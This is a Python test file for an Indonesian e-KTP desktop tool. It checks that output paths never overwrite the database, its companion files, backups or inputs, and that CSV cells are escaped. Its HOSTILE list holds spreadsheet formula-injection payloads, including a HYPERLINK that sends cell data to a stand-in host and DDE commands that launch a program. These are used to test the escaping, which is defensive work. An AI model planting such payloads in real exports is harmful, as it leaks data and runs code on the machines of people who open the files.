"""Output paths refused before any work (the database and its companions, an input, another
output), on real files in tmp_path; and the csv cell that a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest

from ektp_desk.core import db as core_db
from ektp_desk.core import outputs
from ektp_desk.core.errors import UserError

HOSTILE = ["=HYPERLINK(\"http://x.test/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def refused(message_id: str, outs: list, **kwargs: object) -> UserError:
    with pytest.raises(UserError) as caught:
        outputs.check_outputs(outs, **kwargs)
    assert caught.value.message_id == message_id, caught.value.message
    return caught.value


@pytest.fixture
def database(tmp_path: Path):
    path = tmp_path / "data" / "ektp.sqlite"
    database = core_db.open_database(path, bind=False)
    yield database
    database.close()


def test_the_database_and_its_companion_files_are_refused(database, tmp_path, monkeypatch):
    path = Path(database.database)
    for name in (path, f"{path}-wal", f"{path}-shm", f"{path}-journal",
                 path.parent / "backups" / "ektp.schema1.20240101-000000.sqlite",
                 path.parent / "backups"):
        error = refused("output_is_database" if "backups" not in str(name)
                        else "output_in_backups", [tmp_path / "ok.csv", name],
                        database=database)
        assert str(name) in error.message and "Tidak ada yang diubah" in error.message
    # given as a path too, and through a symlink, a relative path or a hard link
    refused("output_is_database", [path], database=path)
    link = tmp_path / "tautan.pdf"
    link.symlink_to(path)
    refused("output_is_database", [link], database=database)
    hard = tmp_path / "keras.pdf"
    os.link(path, hard)
    refused("output_is_database", [hard], database=database)
    monkeypatch.chdir(path.parent)
    refused("output_is_database", [Path("ektp.sqlite-wal")], database=database)


def test_case_is_folded_where_the_system_ignores_it(database, monkeypatch):
    path = Path(database.database)
    monkeypatch.setattr(os.path, "normcase", lambda p: p.lower())  # as on Windows
    refused("output_is_database", [str(path).upper()], database=database)


def test_an_input_and_a_second_output_are_refused(tmp_path):
    source = tmp_path / "daftar_kpu.csv"
    source.write_text("NIK\n")
    refused("output_is_input", [source], inputs=[source])
    refused("output_is_input", [tmp_path / "x" / ".." / "daftar_kpu.csv"], inputs=[source])
    error = refused("output_twice", [tmp_path / "a.pdf", None, tmp_path / "a.pdf"])
    assert "a.pdf" in error.message


def test_distinct_outputs_beside_the_database_pass(database, tmp_path):
    path = Path(database.database)
    outputs.check_outputs([path.with_name("surat.pdf"), path.with_name("ektp.sqlite.pdf"),
                           None, tmp_path / "backups.pdf"],
                          database=database, inputs=[None, tmp_path / "in.csv"])
    outputs.check_outputs([path], database=":memory:")  # nothing to compare with


def test_check_writable_refuses_a_folder_and_an_unwritable_place(tmp_path):
    outputs.check_writable(tmp_path / "baru" / "laporan.csv")
    assert list((tmp_path / "baru").iterdir()) == []  # the probe is gone
    with pytest.raises(UserError, match="folder"):
        outputs.check_writable(tmp_path)
    blocker = tmp_path / "berkas"
    blocker.write_text("x")
    with pytest.raises(UserError, match="Tidak dapat menulis"):
        outputs.check_writable(blocker / "laporan.csv")


def test_a_formula_cell_is_quoted_and_real_values_read_back_as_themselves():
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    real = ["3375011402070012", "2007-02-14", "14-02-2007", "001", "BUDI SANTOSO", "", -5, 1.5]
    writer.writerow(outputs.csv_row([*HOSTILE, *real]))
    row = next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert row[:len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert row[len(HOSTILE):] == ["3375011402070012", "2007-02-14", "14-02-2007", "001",
                                  "BUDI SANTOSO", "", "-5", "1.5"]
